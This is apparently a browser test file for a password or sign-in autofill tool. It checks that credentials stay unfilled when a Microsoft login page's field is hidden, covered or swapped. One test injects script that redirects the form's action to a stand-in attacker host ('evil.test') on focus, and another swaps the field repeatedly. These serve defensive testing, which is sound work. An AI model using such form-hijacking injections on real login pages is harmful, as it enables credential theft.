// A page on the genuine host that hides, covers, moves or swaps its field: nothing is filled, and no secret is asked for.
// docs/refusals.md shows the table that this makes.
import fs from 'node:fs';
import path from 'node:path';
import { expect, signInPage, test } from './fixtures.mjs';
import { concerns, corpus, fields, late, unseen } from './clickjacking.mjs';
import { secrets, values } from './observations.mjs';

const table = fs.readFileSync(path.resolve(import.meta.dirname, '../../../docs/refusals.md'), 'utf8');

async function clickOver(browser, page) {
  const popup = await browser.popup(page);
  await popup.see(/Contoso/);
  await popup.press('Enter');
  return popup;
}

for (const [view, field] of Object.entries(fields)) {
  test(`${view}: a field that is hidden, covered, moved, doubled or led astray stays empty`, async ({ entra, machine, desktop: browser }) => {
    test.setTimeout(480_000);
    for (const [name, cheat] of Object.entries(corpus)) {
      if (!concerns(view, name)) continue;
      await test.step(name, async () => {
        const page = await browser.page(`https://login.microsoftonline.com/contoso.onmicrosoft.com/gallery/${view}`);
        await page.waitForSelector(field);
        await page.evaluate(cheat, field);
        const popup = await clickOver(browser, page);
        await page.waitForTimeout(2000);
        expect.soft(await values(page), name).toEqual([]);
        expect.soft(page.url(), name).toContain('/gallery/');
        const row = new RegExp(`^\\| ${name} \\|.* 0 \\|$`, 'm');
        expect.soft(table, `docs/refusals.md has a row for it`).toMatch(row);
        await popup.close().catch(() => {});
        await page.close();
      });
    }
    expect((await entra.journal()).attempts).toEqual([]);
    // What only shows at the moment of filling is refused then, with the secret in the content script's hands.
    const asked = Object.keys(corpus).filter((name) => concerns(view, name) && late.has(name)).length;
    expect((await secrets(machine)).length, 'secrets that left the host').toBeLessThanOrEqual(view === 'username' ? 0 : asked);
    await machine.latchkey(['end', '--all'], { code: null });
  });

  test(`${view}: a page that changes when it hears of the focus`, async ({ entra, machine, desktop: browser }) => {
    const page = await browser.page(`https://login.microsoftonline.com/contoso.onmicrosoft.com/gallery/${view}`);
    await page.waitForSelector(field);
    await page.evaluate((field) => {
      const box = document.querySelector(field);
      box.addEventListener('focus', () => { box.form.action = 'https://evil.test/'; });
    }, field);
    await clickOver(browser, page);
    await page.waitForTimeout(3000);
    expect(await values(page)).toEqual([]);
    expect((await entra.journal()).attempts).toEqual([]);
    await machine.latchkey(['end', '--all'], { code: null });
  });

  test(`${view}: a field that is swapped again and again`, async ({ entra, machine, desktop: browser }) => {
    const page = await browser.page(`https://login.microsoftonline.com/contoso.onmicrosoft.com/gallery/${view}`);
    await page.evaluate((field) => {
      setInterval(() => {
        const box = document.querySelector(field);
        box?.replaceWith(box.cloneNode());
      }, 5);
    }, field);
    await clickOver(browser, page);
    await page.waitForTimeout(4000);
    expect((await entra.journal()).attempts.filter(({ fields }) => fields.length)).toEqual([]);
    expect((await secrets(machine)).length).toBeLessThanOrEqual(1);
    await machine.latchkey(['end', '--all'], { code: null });
  });
}

test('what is not looked for hides a field and leads nothing astray', async ({ entra, machine, desktop: browser }) => {
  await entra.pages({ proof_up: 'off' });
  await browser.context.addInitScript((text) => {
    if (location.hostname !== 'login.microsoftonline.com') return;
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(text);
    document.adoptedStyleSheets = [sheet];
  }, unseen);
  const sent = [];
  browser.context.on('request', (request) => {
    const said = new URLSearchParams(request.method() === 'POST' ? request.postData() ?? '' : '');
    for (const name of ['accesspass', 'passwd']) if (said.get(name)) sent.push([new URL(request.url()).origin, said.get(name)]);
  });
  const page = await signInPage(browser);
  await page.waitForSelector('#i0116');
  expect(await page.evaluate(() => getComputedStyle(document.body, '::after').position)).toBe('fixed');
  await clickOver(browser, page);
  await page.waitForSelector('#signed-in-as');
  expect(await page.textContent('#signed-in-as')).toContain(machine.accounts.Contoso);
  expect(sent.map(([origin]) => origin)).toEqual(['https://login.microsoftonline.com']);
  const { attempts } = await entra.journal();
  expect(attempts.filter(({ error }) => error)).toEqual([]);
  await machine.latchkey(['end', '--all']);
});
